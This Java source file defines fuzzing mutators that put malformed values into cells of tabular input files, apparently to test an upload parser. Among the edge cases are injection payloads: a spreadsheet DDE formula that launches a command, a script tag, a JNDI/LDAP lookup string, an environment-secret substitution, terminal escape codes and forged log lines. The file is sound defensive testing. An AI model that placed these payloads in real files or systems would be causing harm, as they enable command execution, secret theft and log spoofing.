package org.kaohe.fuzz;

import static org.kaohe.fuzz.Mutator.Fate.EITHER;
import static org.kaohe.fuzz.Mutator.Fate.TAKEN;

import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

/** One cell or a few hold what they should not; the file itself is whole. */
final class CellMutators {
  static final List<Mutator> ALL = new ArrayList<>();

  private static final String ESC = "\u001B";

  private CellMutators() {}

  static {
    numbers("digits-18", "A number with 18 digits, nearly 10^18", "999999999999999999");
    numbers(
        "digits-19", "A number just beyond 64 bits", "9223372036854775808", "-9223372036854775809");
    numbers("digits-38", "As many digits as a decimal holds", "9".repeat(38), "9".repeat(39));
    numbers("digits-long", "Somebody leant on the 9 key", "9".repeat(400), "0".repeat(5000) + "1");
    numbers("digits-10m", "Ten million digits", "9".repeat(10_000_000));
    numbers("decimals-many", "More decimals than declared", "1.23456789", "0." + "3".repeat(60));
    numbers(
        "scientific", "A spreadsheet's short form", "1E+17", "1e5", "1E2147483647", "1e-999999999");
    numbers(
        "infinite", "A program's idea of no number", "inf", "NaN", "-Infinity", "#DIV/0!", "NULL");
    numbers("full-width-digits", "Typed with the input method on", "１２３", "１２．５", "－５");
    numbers("negative-zero", "Zero below zero", "-0", "-0.00", "+0");
    numbers(
        "thousands",
        "Separators of thousands, right and wrong",
        "1,234",
        "12,34",
        "1，234",
        "1 234");
    numbers("money", "With its unit of money", "¥100", "100元", "1.5万", "（100）", "100%");
    numbers(
        "bases", "Other ways to write a number", "0x1F", "1_000", "0b1", "1e", "010", "1L", "1d");
    numbers("signs-only", "Not even a number", "-", "+", ".", "-.", "5.", "--1", "1-", "1.2.3");
    numbers("other-digits", "Digits that are digits elsewhere", "٣٤", "²", "①", "一千", "Ⅻ", "१२");
    numbers("negative", "Less than nothing", "-1", "-999999999999");
    numbers("date-in-number", "A date in a column of numbers", "2025-03-31", "2025年");
    times(
        "dates-absurd",
        "Days that never were or never come",
        "0000-01-01",
        "9999-12-31",
        "2026-02-30");
    times("dates-first", "The first day of a database", "0001-01-01", "1582-10-10", "1900-01-00");
    times("dates-beyond", "Years of five digits and before Christ", "-0044-03-15", "+12025-01-01");
    times("dates-other-forms", "As people write dates", "民国114年3月31日", "31/03/2025", "2025/3/31");
    times("dates-serial", "As spreadsheets count days", "45000", "45000.5", "2025-03-31T00:00:00Z");
    times(
        "periods", "Every form of a period", "2025年上半年", "2025H1", "2025-H3", "2025-Q5", "2025-00");
    times(
        "periods-absurd",
        "Periods of no calendar",
        "99999-H1",
        "0000-H1",
        "2025-01..05",
        "２０２４-H1");
    texts("placeholder", "Words that mean nothing", "暂无", "无", "—", "N/A", "null", "-", "/");
    texts(
        "bidi",
        "Marks that turn the direction of writing",
        "\u202Egnp.exe",
        "\u2066a\u2069",
        "\u200Fא");
    texts(
        "escape",
        "Orders to the terminal",
        ESC + "[31m红" + ESC + "[0m",
        ESC + "]0;t\u0007",
        "\u009B2J");
    texts(
        "forged-line",
        "A line of ours, forged",
        "好\nERROR  K9999: 假",
        "x\r\nReleased R9 for 2025-12-31.");
    texts(
        "formula",
        "A formula for whoever opens it",
        "=cmd|'/C calc'!A0",
        "@SUM(1)",
        "+1+1",
        "-2+3");
    texts(
        "cell-html",
        "A page within the page",
        "<script>alert(1)</script>",
        "</script>",
        "<!--",
        "&lt;",
        "]]>");
    texts(
        "substitution",
        "Something to be filled in",
        "${env:KAOHE_KEY}",
        "${jndi:ldap://h/a}",
        "%s%n%x",
        "{}");
    texts("quote-inside", "Inches", "5\" 管", "a\"b\"c", "\"");
    texts("backslash", "A backslash before the separator", "a\\", "\\\"", "\\n", "C:\\数据\\");
    texts("separators-inside", "Separators inside quotes", "a,b,,c", ",", "a;b\tc|d");
    texts(
        "other-line-ends",
        "Line ends that are none",
        "a\u2028b",
        "a\u0085b",
        "a\u000Bb",
        "a\u000Cb");
    texts(
        "astral",
        "Characters beyond the first plane",
        "😀",
        "𠮷野家",
        "\uD83D\uDC68\u200D\uD83D\uDC69");
    texts(
        "non-characters",
        "Code points that are no characters",
        "\uFFFF",
        "\uFFFE",
        "\uFDD0",
        "\uE000");
    texts("zero-width", "Nothing to see", "\u200B", "a\uFEFFb", "\u00AD", "\u2060");
    texts(
        "swelling",
        "One character that folds to eighteen",
        "\uFDFA".repeat(2000),
        "z" + "\u0301".repeat(3000));
    texts("nul", "A zero byte in a cell", "a\u0000b", "\u0000");
    texts("cell-5000", "Five thousand characters", "好".repeat(5000), "a".repeat(5000) + "!");
    texts("cell-1mb", "A megabyte in a cell", "长".repeat(350_000));
    texts("quotes-deep", "Quotes of quotes", "\"".repeat(999), "\"\"");
    texts("lines-inside", "A cell of several lines", "一\n二\n三", "\n", "\r\n\r\n");
    any(
        "blanks",
        TAKEN,
        "Blanks of every kind",
        d -> pick(d, " ", "\u3000", "\u00A0", "\u2003 \t", "\u200B"));
    any("emptied", TAKEN, "A cell was emptied", d -> "");
    any(
        "id-somewhere",
        TAKEN,
        "A resident number where none belongs",
        d -> Persons.residentId(d.random));
    any(
        "phone-somewhere",
        TAKEN,
        "A telephone number where none belongs",
        d -> Persons.mobile(d.random));
    any("card-somewhere", TAKEN, "A bank card where none belongs", d -> Persons.card(d.random));
    any("reordered-digits", TAKEN, "Digits typed in the wrong order", d -> d.random.nextInt() + "");
    unit(
        "unit-forms",
        "The county in other forms",
        "４１０３２７",
        "410327.0",
        "'410327",
        "0410327",
        "4.10327E5");
    unit("unit-unknown", "A county of nowhere", "999999", "全市", "合计", "合 计", "410300", "丙县");
    rows("same-row", "One row many times", r -> r);
    rows("key-twice", "One key with other values", CellMutators::otherEnd);
  }

  private static String pick(Draft draft, String... from) {
    return from[draft.random.nextInt(from.length)];
  }

  private static void numbers(String name, String says, String... values) {
    at(name, says, c -> List.of(c.whole(), c.number()), values);
  }

  private static void times(String name, String says, String... values) {
    at(name, says, c -> List.of(c.time()), values);
  }

  private static void texts(String name, String says, String... values) {
    at(name, says, c -> List.of(c.text()), values);
  }

  private static void unit(String name, String says, String... values) {
    at(name, says, c -> List.of(c.unit()), values);
  }

  private static void at(
      String name, String says, Function<Template.Columns, List<Integer>> where, String... values) {
    ALL.add(
        new Mutator(
            name,
            // What a cell holds is no reason to refuse a file.
            TAKEN,
            says,
            d -> {
              List<Integer> columns =
                  where.apply(d.template.columns()).stream().filter(c -> c >= 0).toList();
              String value = pick(d, values);
              d.anyRow().set(columns.get(d.random.nextInt(columns.size())), value);
              if (value.contains("\n")) {
                // No contract of the workspace has cells of several lines: each line is a record.
                d.rowsUnknown();
              }
            }));
  }

  private static void any(
      String name, Mutator.Fate fate, String says, Function<Draft, String> value) {
    ALL.add(
        new Mutator(
            name,
            fate,
            says,
            d -> {
              List<String> row = d.anyRow();
              row.set(d.random.nextInt(row.size()), value.apply(d));
            }));
  }

  private static void rows(String name, String says, Function<List<String>, List<String>> changed) {
    ALL.add(
        new Mutator(
            name,
            EITHER,
            says,
            d -> {
              List<String> row = d.anyRow();
              for (int i = 0; i < 500; i++) {
                d.rows().add(new ArrayList<>(changed.apply(row)));
              }
            }));
  }

  private static List<String> otherEnd(List<String> row) {
    List<String> other = new ArrayList<>(row);
    other.set(other.size() - 1, "另");
    return other;
  }
}
